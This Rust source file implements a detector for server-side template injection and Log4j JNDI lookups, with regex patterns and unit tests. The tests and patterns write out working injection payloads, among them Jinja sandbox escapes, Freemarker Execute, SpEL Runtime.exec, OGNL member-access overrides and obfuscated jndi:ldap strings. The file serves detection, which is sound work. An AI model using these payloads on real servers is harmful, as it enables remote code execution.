//! Server-side template and expression injection: brackets of Jinja, Twig, Freemarker, Velocity,
//! ERB, Razor, SpEL, OGNL and EL with what attackers put between them, and lookups of Log4j, whose
//! nested spellings are folded first.
//!
//! Source: the expression languages' own manuals; CVE-2021-44228 for lookups.

use super::detector::{Detector, Report};
use super::documents::is_deep;
use super::patterns::{pattern, Patterns};
use super::prefilter::{Hints, Marks};
use super::references::{held, Holds};
use super::words::Words;
use super::Family;
use crate::decode::Value;

/// The detector of this family.
pub struct TemplateInjection;

/// What is called or looked into within brackets. Settings and requests are whole, or what is secret
/// or leads on in them: mailers and mocks have `{{ config.title }}` and `{{ request.body.id }}`.
macro_rules! inside {
    () => {
        "(?:__[a-z]\\w*__|\\\\x5f|\\b(?:config|self|request|settings|environment|handler|app|application|session)(?:\\s*(?:[|}%~\\[]|$)|\\.(?:items|from|meta\\b|environ|application|args|server|session|settings|secret|env\\b|user\\.pass|get\\s*\\(|get[a-z]|set[a-z]|class|init|__|\\w*(?:secret|passw|token|_key)|(?-i:[A-Z]{2})))|\
         \\bcycler\\b|\\bjoiner\\b|\\blipsum\\b|\\bself\\._\\w|\\bdict\\s*\\([^()]*=[^()]*\\)\\s*\\|\\s*(?:join|first|last|list)\\b|get_flashed_messages|\\burl_for\\.|_self\\b|getclass|forname|getruntime|\\bexec\\b|\\bsystem\\b|popen|passthru|\\beval\\b|\\bprocess\\.(?:env|mainmodule|binding)|\\brequire\\b|\
         \\bimport\\b|\\bconstructor\\b|attr\\s*\\(|\\|\\s*attr\\b|\\bopen\\s*\\(|console\\.|\\b_\\.\\w|\\brails\\.|\\b(?:string|this)\\.(?:split|sub|pop|push|shift|replace|bind|apply|call)\\b|\\bdump\\s*\\(|\\bdebug\\s*\\(|java\\.|t\\(\\s*java|\
         @java|@environment|#\\w+\\s*=|#this|#context|#_memberaccess|#rt|#(?:application|session|request|parameters|attr)\\b|new\\s+\\w+[.(]|\\bfile\\.|\\bdir\\.|\\bio\\.|(?-i:\\bENV)\\s*[.\\[]|ioutil|shell_exec|%c|\
         classloader|scriptengine|\\bbeans\\b|(?:application|session|request|page)scope|pagecontext|facescontext|servletcontext|system(?:properties|environment)|\\binitparam|\\b(?:header|param|cookie)\\[|\
         \\b(?:include|source|constant|file|read)\\s*\\(|\\?(?:api|eval|new|interpret|has_api)\\b|\\.data_model|\\bcall\\s+\\.|\\.constructor)"
    };
}

static PATTERNS: Patterns = Patterns::new(&[
    pattern("template.lookup", 0.95, 0.9, "\\$\\{\\s*jndi\\s*:|\\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?)"),
    pattern("template.lookup", 0.8, 0.7, "\\$\\{(?:env|sys|java|ctx|lower|upper|date|main|bundle|docker|k8s|spring|log4j|web|base64\\w*|properties|xml|file|resourcebundle|url\\w*coder|localhost|script|dns|url|const|:):"),
    pattern("template.lookup", 0.6, 0.5, "\\$\\{(?:[^{}]{0,20}:[^{}]{0,20}|:{0,2}):-[^}]{0,8}\\}|\\$\\{\\w{0,20}:-[a-z]\\}|\\$\\{[^{}]{0,40}\\$\\{"),
    pattern("template.arithmetic", 0.9, 0.6, "(?:\\{\\{|\\$\\{|#\\{|\\*\\{|%\\{|~\\{|@\\{|<%=|\\$!?\\{\\{|\\{\\{=|\\[\\[|@\\()\\s*['\"(]*-?\\d+['\")]*\\s*[-+*/%]\\s*['\"(]*\\d+"),
    pattern("template.expression", 0.85, 0.45, concat!("(?:\\{\\{|\\$\\{|#\\{|\\*\\{|%\\{|~\\{|@\\{|\\{%|<%|\\$!?\\{|\\[\\[)[^\\n]*?", inside!())),
    pattern("template.expression", 0.45, 0.0, "^\\s*(?:\\{\\{[^{}]+\\}\\}|\\$\\{[^{}]+\\}|#\\{[^{}]+\\}|<%=?[^%]+%>|\\{%[^%]+%\\}|\\*\\{[^{}]+\\}|\\$\\{\\{.+\\}\\})\\s*$"),
    // A method that is called is no placeholder.
    pattern("template.expression", 0.8, 0.0, "^\\s*(?:\\{\\{|[$#*@~]\\{)[^{}]*\\.\\s*\\w+\\s*\\([^{}]*\\)[^{}]*\\}\\}?\\s*$"),
    // Neither is a list, a program's literal, an assignment or a quoted command; a path with filters is one.
    pattern("template.expression", 0.6, 0.0, "^\\s*(?:(?:\\{\\{|[$#*@~]\\{)\\s*(?:[\\[(]|\\.(?-i:[a-z])|['\"][^'\"]*['\"]\\s*[^|\\s}]|[^{}]*[`@])[^{}]*\\}{1,2}|[$#*@~]\\{\\s*['\"][^'\"]*['\"]\\s*\\}|<%[=-]?[^%=]*[(\\[`'\"][^%]*%>)\\s*$"),
    pattern("template.directive", 0.85, 0.7, "<#(?:assign|include|import|setting|list)\\b|freemarker\\.template\\.utility|\\?new\\(\\)|\\?api\\b|#set\\s*\\(\\s*\\$|\\$\\w+\\.(?:class|getclass)(?:\\s*[.(\\[]|\\s*$)|#(?:include|parse|evaluate)\\s*\\(|\\{php\\}|\\{\\$smarty|\\{system\\(|\\{literal\\}"),
    pattern("template.directive", 0.7, 0.2, "\\{%-?\\s*(?:(?:import|include|extends|debug|load)\\b|if\\s+(?:true|not|\\d|['\"])|[^%{}]*\\.\\w+\\()|<%=?\\s*(?:system|exec|eval|`|file|dir|io|require|self|7|foo|class|object|response|request|out|%x|%q)"),
    // A value, handed on to a function that runs it.
    pattern("template.directive", 0.8, 0.4, "\\{\\s*['\"$][^{}\\n]*\\|\\s*@?(?:system|exec|passthru|shell_exec|eval|phpinfo|file_get_contents|readfile|assert)\\b"),
    pattern("template.razor", 0.85, 0.6, "@\\(\\s*\\d+\\s*[-+*/]|@\\{\\s*(?:var\\s|//|system)|@\\((?:system|process|\\d)|@(?:system\\.|model\\.|html\\.raw|functions\\s*\\{|import\\s+(?:[a-tv-z_]|u[^r]))"),
    pattern("template.ognl", 0.95, 0.8, "#_memberaccess|@ognl|ognl\\.ognlcontext|@java\\.lang|\\(#\\w+\\s*=|#context\\[|xwork2?\\.|#request\\.|struts2?\\.|allowstaticmethodaccess|denymethodexecution|%\\{\\s*#|%\\{\\(#|\\(#\\w+\\.\\w+|#\\w+\\.\\w+\\("),
    pattern("template.spel", 0.95, 0.8, "t\\s*\\(\\s*(?:java|org|com|javax)\\.|#\\{\\s*t\\(|#this\\.getclass|new\\s+java\\.|new\\s+processbuilder|\\.getclass\\(\\)\\.|\\bforname\\s*\\(|getruntime\\(\\)|class\\.module\\.classloader|classloader\\.resources"),
    pattern("template.python", 0.9, 0.5, "__(?:class|globals|mro|subclasses|builtins|bases|base|import|getitem|dict|reduce)__|(?:[.\\[|'\"]\\s*__init__|__init__\\s*\\.\\s*__)|\\[['\"](?:__\\w+__|\\\\x5f)|\\\\x5f\\\\x5f|\\|attr\\s*\\(|\\.mro\\(\\)"),
    pattern("template.node", 0.9, 0.5, "(?:range|\\b\\w+|\\]|\\)|'')\\.constructor\\.?(?:constructor|prototype|\\()|\\[['\"]constructor['\"]\\]|constructor\\(['\"]return|process\\.mainmodule|global\\.process|#with\\s+['\"]|lookup\\s+string"),
    pattern("template.sandbox", 0.85, 0.5, "_self\\.env|registerundefinedfiltercallback|getfilter\\(|self\\._tmpl|self\\.module|template\\.module|\\bcycler\\.|\\blipsum\\.|\\|\\s*(?:filter|map|sort|reduce)\\s*\\(\\s*['\"]|smarty\\.(?:version|template|now)|self::clearconfig|\\$output\\s*=|get_flashed_messages\\.|url_for\\.|config\\.(?:items|from|__)|%0a?\\w*\\{php"),
]);

impl Detector for TemplateInjection {
    fn family(&self) -> Family {
        Family::TemplateInjection
    }

    fn wants(&self, hints: &Hints) -> bool {
        hints.has(Marks::TEMPLATE) || hints.words.contains(Words::CODE)
    }

    /// Every pair of brackets is read for what it refers to.
    fn steps(&self, bytes: usize) -> usize {
        36 + bytes
    }

    fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
        if refers(value) {
            report.doubt(&["template.expression"], REFERRED);
        }
        PATTERNS.judge(value, value.bytes, report);
        if let Some((folded, hidden)) = fold(value.bytes) {
            if hidden {
                report.add("template.lookup", 0.6);
            }
            PATTERNS.judge(value, &folded, report);
        }
    }
}

/// Most that brackets are worth that hold names.
const REFERRED: f32 = 0.2;

/// Tells a value whose brackets only hold names of data. A parameter that is nothing but such a bracket is
/// how one looks whether brackets are read at all; deep in a document it is a document's.
fn refers(value: &Value<'_>) -> bool {
    let text = value.bytes.trim_ascii();
    let text = &text[..text.len().min(super::patterns::REACH)];
    let whole =
        matches!(text, [b'{' | b'$', .., b'}']) && memchr::memchr_iter(b'}', text).count() < 3;
    match held(text) {
        Some(Holds::Names) => !whole || is_deep(value),
        Some(Holds::Conditions) => is_deep(value),
        None => false,
    }
}

/// Folds lookups within lookups to what they give: `${lower:j}`, `${::-n}` and `${env:X:-d}` to
/// `j`, `n` and `d`. `None` without such. Tells, too, whether one gives a letter or two, which nobody
/// writes who hides nothing; `${HOST:-localhost}` and `${PORT:-80}` are defaults.
/// Cost: linear; every bracket is visited once.
fn fold(text: &[u8]) -> Option<(Vec<u8>, bool)> {
    memchr::memmem::find(text, b"${")?;
    let text = &text[..text.len().min(super::patterns::REACH)];
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let mut open: Vec<usize> = Vec::new();
    let (mut changed, mut hidden) = (false, false);
    let mut at = 0;
    while at < text.len() {
        if text[at..].starts_with(b"${") {
            open.push(out.len());
            out.extend_from_slice(b"${");
            at += 2;
            continue;
        }
        at += 1;
        let byte = text[at - 1];
        match open.pop() {
            Some(start) if byte == b'}' => {
                let given = gives(&out[start + 2..]).map(<[u8]>::to_vec);
                match given {
                    Some(given) => {
                        out.truncate(start);
                        out.extend_from_slice(&given);
                        changed = true;
                        hidden |= given.len() <= 2 && !given.iter().all(u8::is_ascii_digit);
                    }
                    None => out.push(byte),
                }
            }
            Some(start) => {
                open.push(start);
                out.push(byte);
            }
            None => out.push(byte),
        }
    }
    changed.then_some((out, hidden))
}

/// What a lookup without lookups in it gives, when it says so itself.
fn gives(lookup: &[u8]) -> Option<&[u8]> {
    if lookup.len() > 64 {
        return None;
    }
    if let Some(at) = memchr::memmem::find(lookup, b":-") {
        return Some(&lookup[at + 2..]);
    }
    let colon = memchr::memchr(b':', lookup)?;
    let name = &lookup[..colon];
    let case = name.eq_ignore_ascii_case(b"lower") || name.eq_ignore_ascii_case(b"upper");
    case.then(|| &lookup[colon + 1..])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::{patterns, testing::score, testing::score_at, Part};

    #[test]
    fn expressions_are_found() {
        patterns::compiles(&PATTERNS);
        for text in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{config.items()}}",
            "${jndi:ldap://a.example/x}",
            "${${lower:j}ndi:${::-l}dap://a.example/x}",
            "${${env:NaN:-j}nd${env:NaN:-i}:rmi://x/a}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($e=\"x\")$e.getClass()",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "@(1+2)",
            "{{constructor.constructor('return 1')()}}",
            "{% import os %}",
            "{{request|attr('application')}}",
            "{{config}}",
            "{{ dict(__cla=a,ss__=b)|join }}",
            "{{ self._TemplateReference__context }}",
            "{{ settings.SECRET_KEY }}",
            "{{ ['id'] }}",
            "{{ 'a'*9 }}",
            "${.version}",
            "${initParam}",
            "#{systemProperties['user.dir']}",
            "{'id'|system}",
            "{{ include('/x') }}",
            "${${::-j}x}",
            "<%= link('x') %>",
            "{% if True %}49{% endif %}",
            "${'ff'}",
            "{{ [].x }}",
            "@import java.util",
            "${env:HOME}",
            "${url:UTF-8:file:///x}",
        ] {
            assert!(score(&TemplateInjection, text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn calls_tell_more_than_placeholders() {
        assert!(score(&TemplateInjection, "{{ x.upper() }}") > 0.7);
        assert!(score(&TemplateInjection, "{{ order.total }}") < 0.7);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "{{ order.total | money }}",
            "{{ tags | join(', ') }}",
            "{{ item.self_link }}",
            "{{ 'cart.title' | t }}",
            "{{ price * quantity }}",
            "{{config.title}}",
            "{{request.body.user}}",
            "${{ github.event.pull_request.number }}",
            "${project.version}",
            "${DB_HOST:-localhost}",
            "{{ $node[\"HTTP\"].json.id }}",
            "{{ __('messages.welcome') }}",
            "{% if template contains 'product' %}x{% endif %}",
            "<%= first_name %>",
            "{{{body}}}",
            "{{ items|map(attribute='name')|join(', ') }}",
            "__init__.py",
            "def __init__(self):",
            "${env.BUILD}",
            "^\\$\\{([^}]+)\\}$",
            "Dear {name}, you owe us $5 {really}",
            "query Q($id: ID!) { user(id: $id) { name } }",
            "a {{placeholder}} in a long letter to our customers, as newsletters have it",
            "#hashtag and #another (of many)",
            "let s = format!(\"{}\", x); // prints one line of text as usual",
            "user@example.com (work)",
            "<style>@import url(\"https://a.example/a.css\"); @import 'b.css'; @media print { p { margin: 0 } }</style>",
            "${Env}-queue and ${url}",
            "{{ .Chart.AppVersion }}",
            "${filename}.handler",
            "arn:aws:x:${AWS::Region}:${__ApiId__}/${__Stage__}/GET/",
            "<p>@{variables('name')}</p>",
            "{{ $labels.instance }} ({{ $labels.class }}) is down",
        ] {
            assert!(score(&TemplateInjection, text) < 0.5, "{text}");
        }
    }

    #[test]
    fn documents_name_their_data() {
        let deep =
            |text: &str| score_at(&TemplateInjection, Part::Json, b"do.getPet.with.id", text);
        for text in [
            "${ .pet.id }",
            "${ .bpm < 60 or .bpm > 100 }",
            "{{ .Value }}",
        ] {
            assert!(deep(text) < 0.3, "{text}");
            assert!(score(&TemplateInjection, text) >= 0.45, "{text}");
        }
        for text in [
            "{{7*7}}",
            "${T(java.lang.Runtime)}",
            "{{config}}",
            "${.data_model}",
            "{{constructor.constructor('return 1')()}}",
            "{{ a }}{{ ''.__class__ }}",
            "${ .a < 1 }${7*7}",
        ] {
            assert!(deep(text) >= 0.5, "{text}");
        }
    }

    #[test]
    fn deep_lookups_are_folded_in_one_pass() {
        let deep = [b"${lower:".repeat(800), b"}".repeat(800)].concat();
        assert!(fold(&deep).is_some_and(|(out, _)| out.len() < deep.len()));
    }
}
